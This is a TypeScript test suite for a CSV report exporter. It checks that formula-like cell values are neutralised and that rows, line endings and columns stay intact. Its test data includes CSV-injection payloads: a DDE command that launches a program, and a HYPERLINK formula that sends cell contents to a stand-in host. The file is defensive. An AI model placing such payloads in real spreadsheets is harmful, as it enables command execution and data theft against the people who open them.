import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { COLUMNS } from '#shared/reports/forms/cells.ts';
import { inert, renderCsv } from '#shared/reports/forms/csv.ts';
import type { Report } from '#shared/reports/report.ts';
import { FORM_REPORT } from '#test/support/form-report.ts';

const FORMULAS = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '  =cmd|" /C calc"!A0',
  '=HYPERLINK("http://x.test?"&A1,"a")',
];

const linesOf = (csv: string) => parse<Record<string, string>>(csv, { bom: true, columns: true });

describe('CSV', () => {
  it.each(FORMULAS)('makes %j inert, wherever a program would see it begin', (formula) => {
    expect(inert(formula)).toMatch(/^'/);
    const split = inert(`a;${formula}`).split(';')[1] ?? '';
    expect(split).toMatch(/^'/);
    expect(inert(`a\n${formula}`).split('\n')[1]).toMatch(/^'/);
  });

  it.each(['Ordinary; text', 'a = b', '1-2', '广州—南京', 'mail@example.org', ''])('leaves %j as it is', (text) => {
    expect(inert(text)).toBe(text);
  });

  it.each(['a\nb', 'a\r\nb', 'a\rb', 'a\n=1+1', 'a "quoted"\nline', 'a, b\nc'])('keeps %j in one row', (title) => {
    const report: Report = structuredClone(FORM_REPORT);
    const rows = (of: Report) => linesOf(renderCsv(of, 'en')).length;
    const before = rows(report);
    for (const line of report.stalled ?? []) line.title = title;
    expect(rows(report)).toBe(before);
  });

  it('keeps negative amounts numbers, and formulas in titles text', () => {
    const report: Report = structuredClone(FORM_REPORT);
    const [stalled] = report.stalled ?? [];
    if (stalled) stalled.title = '=1+1';
    const lines = linesOf(renderCsv(report, 'en'));
    expect(lines.find((line) => line['Section'] === 'stalled')?.['Title']).toBe("'=1+1");
    const down = lines.find(
      (line) => line['Section'] === 'bridge' && line['Strand'] === 'Total' && line['Term'] === 'Value down',
    );
    expect(down?.['Open value (GBP)']).toBe('-32000.50');
  });

  it('begins with a byte order mark, ends every line with CRLF, and has the same columns in every report', () => {
    const csv = renderCsv(FORM_REPORT, 'zh-CN');
    expect(Buffer.from(csv).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const empty = renderCsv({ ...FORM_REPORT, bridge: null, moves: null, byPlace: null }, 'zh-CN');
    expect(empty.split('\r\n')[0]).toBe(csv.split('\r\n')[0]);
    expect(csv.split('\r\n')[0]?.split(',')).toHaveLength(COLUMNS.length + 2);
  });

  it('says why a section cannot be given, in a line of that section', () => {
    const report = {
      ...FORM_REPORT,
      bridge: null,
      unavailable: [{ section: 'bridge', reason: 'first-report' as const }],
    };
    const lines = linesOf(renderCsv(report, 'en'));
    expect(lines.filter((line) => line['Section'] === 'bridge').map((line) => line['Detail'])).toEqual([
      'Not available. There is no earlier report to compare with.',
    ]);
  });
});
